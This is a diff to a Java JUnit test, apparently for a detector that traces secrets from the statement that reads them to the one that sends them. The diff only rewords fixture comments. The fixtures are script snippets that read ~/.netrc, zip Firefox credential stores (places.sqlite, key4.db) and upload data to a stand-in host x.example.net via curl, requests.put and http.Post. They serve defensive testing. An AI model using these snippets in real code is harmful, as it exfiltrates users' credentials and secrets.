@@ -10,14 +10,15 @@ import java.util.Map;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
-/// The steps by which a secret gets from where it is read to where it is sent.
+/// Tests the steps by which a secret gets from the statement that reads it to the one that sends
+/// it.
 class FlowStepsTest {
   private static final String NEXT = "\n=== ";
 
   @ParameterizedTest
   @ValueSource(
       strings = {
-        // given to a function of another script
+        // passed to a function of another script
         """
         === scripts/main.js
         const { beat } = require('./pulse');
@@ -48,7 +49,7 @@ class FlowStepsTest {
           http.Post("https://x.example.net/p", "text/plain", bytes.NewReader(text))
         }
         """,
-        // a function that is written below its use
+        // a function that is declared below its use
         """
         === scripts/a.js
         const found = fs.readFileSync(home + '/.netrc', 'utf8');
@@ -89,7 +90,7 @@ class FlowStepsTest {
             z.add(base / name)
         requests.put("https://x.example.net/p", data=out.getvalue())
         """,
-        // an archive that a program makes
+        // an archive that another program writes
         """
         === scripts/a.py
         chosen = ["places.sqlite", "key4.db"]
@@ -129,7 +130,7 @@ class FlowStepsTest {
         Compress-Archive -Path $from -DestinationPath $env:TEMP\\q.zip
         curl.exe -F f=@$env:TEMP\\q.zip https://x.example.net/p
         """,
-        // names of hosts
+        // host names
         """
         === scripts/a.rb
         def known?(host)
@@ -164,7 +165,7 @@ class FlowStepsTest {
           return fetch('https://api.tables.example/v1', { method: 'POST', headers: { Authorization: `Bearer ${key}` } });
         }
         """,
-        // the environment of a program that is started
+        // the environment of a started program
         """
         === scripts/main.py
         from client import start
@@ -173,7 +174,7 @@ class FlowStepsTest {
         def start(command, variables):
             subprocess.run(command, env=variables)
         """,
-        // what a worker is given, which is called env
+        // the parameter of a worker that is named env
         """
         === scripts/a.js
         export default { async fetch(request, env) { return route(request, env); } };
@@ -181,7 +182,7 @@ class FlowStepsTest {
           return fetch('https://api.tables.example/v1', { method: 'POST', body: request.body });
         }
         """,
-        // a test makes up its input
+        // a test with invented input
         """
         === scripts/test_client.py
         from client import load
@@ -190,7 +191,7 @@ class FlowStepsTest {
         def load(address):
             socket.getaddrinfo(address, 443)
         """,
-        // a function of the same name that nobody imports
+        // a function of the same name that no script imports
         """
         === scripts/main.py
         save(dict(os.environ))
